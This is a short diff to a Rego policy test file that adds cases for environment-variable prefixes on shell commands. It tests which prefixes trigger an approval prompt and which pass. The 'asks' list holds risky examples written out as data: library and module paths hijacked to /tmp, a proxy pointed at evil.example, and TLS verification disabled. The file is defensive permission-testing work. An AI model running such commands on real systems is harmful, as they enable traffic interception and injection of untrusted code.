@@ -29,6 +29,7 @@ test_denies if {
 
 test_asks if {
 	every call in [
+		"LD_LIBRARY_PATH=/tmp/x ls",
 		"HTTPS_PROXY=http://evil.example:8080 npm install",
 		"NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js",
 		"PYTHONPATH=/tmp/x python3 a.py",
@@ -41,6 +42,7 @@ test_asks if {
 test_passes if {
 	every call in [
 		"FOO=1 make",
+		"LD_LIBRARY_PATH=./lib ./x",
 		"PYTHONPATH=src pytest",
 		"GOFLAGS=-mod=mod go build ./...",
 		`PATH="$PWD/node_modules/.bin:$PATH" tsc --noEmit`,
